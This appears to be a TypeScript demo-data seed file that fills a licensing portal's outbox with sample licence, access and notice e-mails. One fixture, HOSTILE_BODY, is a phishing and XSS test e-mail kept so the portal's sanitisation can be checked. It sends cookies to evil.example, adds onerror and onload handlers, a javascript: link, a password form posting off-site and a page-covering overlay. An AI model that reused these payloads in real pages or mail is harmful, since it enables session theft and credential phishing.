/**
 * Demo data: the outbox. Licence-file, access and account e-mails for the demo
 * customers over the past months, with HTML bodies as the product sends them,
 * one deleted e-mail, and one hostile body (scripts, handlers, javascript: links,
 * a tracking pixel, a form posting elsewhere, a refresh and CSS that overlays the
 * page) that the portal must show harmlessly. The monthly statement e-mails are
 * written by the API's own code from the demo usage (statementEmailsStep, after
 * the usage is seeded), so their figures are the statement's.
 */
import { eq } from 'drizzle-orm'
import { writeStatementEmail } from '../api/statement-emails'
import { DAY_MS, formatDay, utcDate } from '../app/domain/utc-day'
import { accounts, emails, entitlements } from './tables'
import type { DemoStep } from './seed'
import { demoActivationId, ELASTIC_KEYS } from './seed-entitlements'
import { demoElasticServers } from './seed-elastic'

export type DemoEmail = typeof emails.$inferInsert

/** A 1x1 PNG, inline like the product's logo in real e-mails. */
const LOGO =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='

export const HOSTILE_SUBJECT = 'Action required: confirm your licensing portal session'

const pad = (n: number) => String(n).padStart(2, '0')

/** 'YYYY-MM-DD HH:mm:ss' (UTC) of `now` minus `days` days, at hh:mm. */
export function daysAgo(now: Date, days: number, hh: number, mm: number): string {
  const d = new Date(
    Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), now.getUTCDate() - days, hh, mm, (days * 7) % 60),
  )
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`
}

function frame(title: string, inner: string) {
  return `<div style="font-family: Arial, sans-serif; color: #1f2937; max-width: 640px">
<p><img src="${LOGO}" alt="Licensing Portal" width="120" height="24"></p>
<h1 style="font-size: 20px; color: #0d2a55">${title}</h1>
${inner}
<p style="font-size: 12px; color: #6b7280">This message was sent by the Licensing Portal. Please do not reply to it.
Questions? <a href="https://support.example.com/requests/new">Open a support request</a>.</p>
</div>`
}

function licenseFile(customer: string, host: string, hostId: string, products: [string, number, string][]) {
  const rows = products
    .map(
      ([p, q, end]) =>
        `<tr><td style="padding: 4px 8px">${p}</td><td style="padding: 4px 8px; text-align: right">${q}</td><td style="padding: 4px 8px">${end}</td></tr>`,
    )
    .join('\n')
  return frame(
    `Your licence file for ${host}`,
    `<p>Dear ${customer} licence administrator,</p>
<p>The licence file for host <strong>${host}</strong> (host ID <code>${hostId}</code>) is attached to this e-mail.
Copy it to the licence server and restart the licence manager to use it.</p>
<table style="border-collapse: collapse; border: 1px solid #d1d5db">
<thead><tr><th style="padding: 4px 8px; text-align: left">Product</th><th style="padding: 4px 8px">Quantity</th><th style="padding: 4px 8px; text-align: left">Ends</th></tr></thead>
<tbody>
${rows}
</tbody></table>
<p>You can download the file again at any time under <a href="https://portal.example.com/activations-history">Manage Activations</a>.</p>`,
  )
}

function access(name: string, customer: string, role: string) {
  return frame(
    'Licensing Portal access',
    `<p>Hello ${name},</p>
<p>You have been given the role <strong>${role}</strong> for ${customer} in the Licensing Portal.</p>
<p><a href="https://portal.example.com/home">Open the Licensing Portal</a></p>`,
  )
}

function notice(title: string, paragraphs: string[]) {
  return frame(title, paragraphs.map((p) => `<p>${p}</p>`).join('\n'))
}

const HOSTILE_BODY = `<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<style>body { background: red } .overlay { position: fixed; inset: 0; z-index: 2147483647; background: #fff }</style>
<div class="overlay" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: white; color: black">
<h1>Your session has expired</h1>
<p>Please sign in again to keep your licences.</p>
</div>
<script>document.title = 'pwned'; window.top.location = 'https://evil.example/?c=' + document.cookie</script>
<img src="x" onerror="window.top.location='https://evil.example/onerror'" alt="broken">
<img src="https://tracker.example/pixel.gif?u=admin%40acme.example" width="1" height="1" alt="">
<p>Dear customer, we noticed an unusual sign-in. <a href="javascript:alert(document.cookie)">Verify your account</a>
or <a href="https://evil.example/login" onclick="steal()">sign in here</a>.</p>
<form action="https://evil.example/collect" method="post">
<label>Password <input name="password" type="password"></label>
<button type="submit">Confirm</button>
</form>
<iframe src="https://evil.example/frame" title="frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<svg onload="alert(1)"><circle r="10"></circle></svg>
<p style="font-weight: bold">Regards, Licensing Portal Security</p>`

/** The demo outbox relative to `now` (e-mails spread over the past months). */
export function demoEmails(now: Date = new Date()): DemoEmail[] {
  const e = (
    accountId: string,
    days: number,
    hh: number,
    mm: number,
    subject: string,
    to: string,
    kind: string,
    body: string,
    deleted = false,
  ): DemoEmail => ({
    accountId,
    date: daysAgo(now, days, hh, mm),
    subject,
    to,
    kind,
    body,
    deletedAt: deleted ? now.getTime() - 86_400_000 : null,
  })
  const acme = 'Acme Aerospace'
  const borealis = 'Borealis Motors'
  const list: DemoEmail[] = [
    // 1000001 Acme Aerospace (Direct)
    e(
      '1000001',
      2,
      9,
      15,
      'Licence file for host acme-lic-01',
      'admin@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-01', '00155D0A1B2C', [
        ['Mechanical Enterprise', 25, '2027-06-30'],
        ['Fluent Solver', 10, '2027-06-30'],
      ]),
    ),
    e(
      '1000001',
      6,
      11,
      40,
      'Your subscription renewal is due in 60 days',
      'admin@acme.example',
      'general',
      notice('Subscription renewal', [
        'Your lease subscription ends in 60 days.',
        'Contact your account manager to arrange the renewal.',
      ]),
    ),
    e('1000001', 8, 8, 5, HOSTILE_SUBJECT, 'admin@acme.example', 'general', HOSTILE_BODY),
    e(
      '1000001',
      9,
      16,
      30,
      'Licence file for host acme-lic-02',
      'raj.patel@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-02', '00155D0A1B2D', [['Structures Premium', 5, '2027-03-31']]),
    ),
    e(
      '1000001',
      12,
      10,
      0,
      'You have been given access to the Licensing Portal',
      'lena.fischer@acme.example',
      'access',
      access('Lena Fischer', acme, 'Licensing Portal Viewer'),
    ),
    e(
      '1000001',
      15,
      13,
      25,
      'Elastic IP allow-list changed',
      'admin@acme.example',
      'general',
      notice('IP allow-list changed', [
        'The IP allow-list of your elastic licence server was changed by Adam Archer.',
        'If you did not expect this change, contact support.',
      ]),
    ),
    e(
      '1000001',
      19,
      9,
      50,
      '+1 seat added to FSA order 4711',
      'admin@acme.example',
      'general',
      notice('FSA order updated', [
        'One seat of Mechanical Enterprise was added to order 4711 and charged to your Flexible Spending Account.',
      ]),
    ),
    e(
      '1000001',
      23,
      15,
      10,
      'Licence file for host acme-cluster-head',
      'raj.patel@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-cluster-head', '7A2F0C9911EE', [
        ['HPC Pack', 64, '2027-12-31'],
        ['Fluent Solver', 32, '2027-12-31'],
      ]),
    ),
    e(
      '1000001',
      27,
      12,
      0,
      'Renewal quote for your lease licences',
      'admin@acme.example',
      'general',
      notice('Renewal quote', ['Your renewal quote Q-2291 is ready for review.', 'It is valid for 30 days.']),
    ),
    e(
      '1000001',
      36,
      17,
      20,
      'Elastic credentials changed',
      'admin@acme.example',
      'general',
      notice('Elastic credentials changed', ['The PIN of your elastic licence server was changed.']),
    ),
    e(
      '1000001',
      41,
      10,
      35,
      'Licence file for host acme-lic-01',
      'admin@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-01', '00155D0A1B2C', [['Mechanical Enterprise', 20, '2026-12-31']]),
    ),
    e(
      '1000001',
      47,
      9,
      0,
      'Your portal role changed to Licensing Portal Administrator',
      'raj.patel@acme.example',
      'access',
      access('Raj Patel', acme, 'Licensing Portal Administrator'),
    ),
    e(
      '1000001',
      52,
      14,
      45,
      'Scheduled maintenance of the licensing service',
      'admin@acme.example, asc@acme.example',
      'general',
      notice('Scheduled maintenance', [
        'The licensing service will be unavailable on Saturday between 02:00 and 04:00 UTC.',
      ]),
    ),
    e(
      '1000001',
      58,
      11,
      11,
      'Licence file for host acme-lic-03',
      'raj.patel@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-03', 'D4E5F6A7B8C9', [['Electronics Desktop', 3, '2027-01-31']]),
    ),
    e(
      '1000001',
      70,
      16,
      5,
      'Renewal reminder: lease licences end soon',
      'admin@acme.example',
      'general',
      notice('Renewal reminder', ['Some of your lease licences end within 90 days.']),
    ),
    e(
      '1000001',
      77,
      12,
      50,
      'You have been given access to the Licensing Portal',
      'viewer@acme.example',
      'access',
      access('Vera Vance', acme, 'Licensing Portal Viewer'),
    ),
    e(
      '1000001',
      84,
      9,
      20,
      'Licence file for host acme-lic-02',
      'raj.patel@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-02', '00155D0A1B2D', [['Structures Premium', 4, '2026-12-31']]),
    ),
    e(
      '1000001',
      101,
      15,
      0,
      '-20% on multi-year renewals until the end of the quarter',
      'admin@acme.example',
      'general',
      notice('Multi-year renewals', ['Renew for three years and save 20% on your lease licences.']),
    ),
    e(
      '1000001',
      113,
      8,
      55,
      'You have been given access to the Licensing Portal',
      'asc@acme.example',
      'access',
      access('Ashley Scott', acme, 'Support Coordinator'),
    ),
    e(
      '1000001',
      138,
      11,
      5,
      'Licence file for host acme-lic-01',
      'admin@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-lic-01', '00155D0A1B2C', [['Mechanical Enterprise', 20, '2026-12-31']]),
    ),
    e(
      '1000001',
      151,
      9,
      45,
      'Welcome to the Licensing Portal',
      'admin@acme.example',
      'access',
      access('Adam Archer', acme, 'Licensing Portal Administrator'),
    ),
    e(
      '1000001',
      30,
      10,
      0,
      'Licence file for host acme-old-server',
      'admin@acme.example',
      'licence-file',
      licenseFile(acme, 'acme-old-server', '001122334455', [['Mechanical Enterprise', 2, '2026-06-30']]),
      true,
    ),

    // 1000002 Borealis Motors (Channel)
    e(
      '1000002',
      1,
      8,
      20,
      'Licence file for host borealis-lic',
      'partner@channel.example',
      'licence-file',
      licenseFile(borealis, 'borealis-lic', 'AA11BB22CC33', [['Mechanical Pro', 8, '2027-04-30']]),
    ),
    e(
      '1000002',
      14,
      9,
      30,
      'Your subscription renewal is due in 30 days',
      'partner@channel.example',
      'general',
      notice('Subscription renewal', ['Your lease subscription ends in 30 days.']),
    ),
    e(
      '1000002',
      21,
      15,
      15,
      'Elastic IP allow-list changed',
      'partner@channel.example',
      'general',
      notice('IP allow-list changed', ['The IP allow-list of your elastic licence server was changed.']),
    ),
    e(
      '1000002',
      44,
      11,
      0,
      'Licence file for host borealis-lic',
      'partner@channel.example',
      'licence-file',
      licenseFile(borealis, 'borealis-lic', 'AA11BB22CC33', [['Mechanical Pro', 6, '2026-12-31']]),
    ),
    e(
      '1000002',
      60,
      14,
      20,
      'You have been given access to the Licensing Portal',
      'partner@channel.example',
      'access',
      access('Paolo Park', borealis, 'Licensing Portal Administrator'),
    ),
    e(
      '1000002',
      88,
      16,
      40,
      'Scheduled maintenance of the licensing service',
      'partner@channel.example',
      'general',
      notice('Scheduled maintenance', [
        'The licensing service will be unavailable on Sunday between 01:00 and 03:00 UTC.',
      ]),
    ),
    e(
      '1000002',
      120,
      13,
      10,
      'Elastic credentials changed',
      'partner@channel.example',
      'general',
      notice('Elastic credentials changed', ['The PIN of your elastic licence server was changed.']),
    ),
    e(
      '1000002',
      145,
      10,
      30,
      'Welcome to the Licensing Portal',
      'partner@channel.example',
      'access',
      access('Paolo Park', borealis, 'Licensing Portal Administrator'),
    ),

    // 1000003 Cobalt Energy (Indirect: the list is not offered, the outbox still holds its mail)
    e(
      '1000003',
      7,
      10,
      0,
      'Licence file for host cobalt-lic',
      'partner@channel.example',
      'licence-file',
      licenseFile('Cobalt Energy', 'cobalt-lic', 'CC00DD11EE22', [['Fluent Solver', 2, '2027-02-28']]),
    ),
    e(
      '1000003',
      40,
      9,
      0,
      'Your subscription renewal is due in 60 days',
      'partner@channel.example',
      'general',
      notice('Subscription renewal', ['Your lease subscription ends in 60 days.']),
    ),
    // 1000004 Delta Labs, 1000005 Embargo Industries
    e(
      '1000004',
      18,
      12,
      0,
      'Welcome to the Licensing Portal',
      'it@delta.example',
      'access',
      access('Delta IT', 'Delta Labs', 'Licensing Portal Administrator'),
    ),
    e(
      '1000005',
      25,
      12,
      0,
      'Export compliance review of your account',
      'legal@embargo.example',
      'general',
      notice('Export compliance review', ['Your account is under export compliance review.']),
    ),
    e(
      '1000005',
      55,
      11,
      0,
      'Licence file for host embargo-lic',
      'legal@embargo.example',
      'licence-file',
      licenseFile('Embargo Industries', 'embargo-lic', 'FF00FF00FF00', [['Mechanical Pro', 1, '2026-12-31']]),
    ),
  ]
  return list
}

/** The monthly statement e-mails of the demo: [entitlement key, months back] (1 = last month). */
export const DEMO_STATEMENT_EMAILS: [string, number][] = [
  [ELASTIC_KEYS.acmeSteady, 1],
  [ELASTIC_KEYS.acmeSteady, 2],
  [ELASTIC_KEYS.acmeSteady, 3],
  [ELASTIC_KEYS.acmeQuiet, 2],
  [ELASTIC_KEYS.acmeQuiet, 3],
  [ELASTIC_KEYS.borealisMain, 1],
  [ELASTIC_KEYS.borealisMain, 2],
  [ELASTIC_KEYS.borealisMain, 3],
  [ELASTIC_KEYS.borealisLight, 1],
]

/** Each monthly statement is sent on the 1st of the next month at 06:15 UTC (a minute ago at the latest). */
const SENT_AFTER_MONTH_MS = (6 * 60 + 15) * 60_000

/** The monthly statement e-mails of DEMO_STATEMENT_EMAILS, as /emailmonth writes them; run after the usage step. */
export function statementEmailsStep(now: Date = new Date()): DemoStep {
  return {
    name: 'statement e-mails',
    run: async ({ tx }) => {
      for (const [key, monthsBack] of DEMO_STATEMENT_EMAILS) {
        const entitlement = (
          await tx
            .select()
            .from(entitlements)
            .where(eq(entitlements.activationId, demoActivationId(key)))
        )[0]!
        const account = (await tx.select().from(accounts).where(eq(accounts.accountId, entitlement.accountId)))[0]!
        const nextMonth = utcDate(now.getUTCFullYear(), now.getUTCMonth() - monthsBack + 1, 1)
        await writeStatementEmail(tx, {
          account,
          entitlement,
          kind: 'month',
          serverId: demoElasticServers.find((s) => s.accountId === account.accountId)!.deviceId,
          date: formatDay(nextMonth - DAY_MS),
          sentAt: Math.min(nextMonth + SENT_AFTER_MONTH_MS, now.getTime() - 60_000),
          // Demo e-mails stay in the outbox: none of them is delivered.
          delivery: undefined,
        })
      }
    },
  }
}

export function emailsStep(): DemoStep {
  return {
    name: 'outbox e-mails',
    run: async ({ tx }) => {
      await tx.insert(emails).values(demoEmails())
    },
  }
}
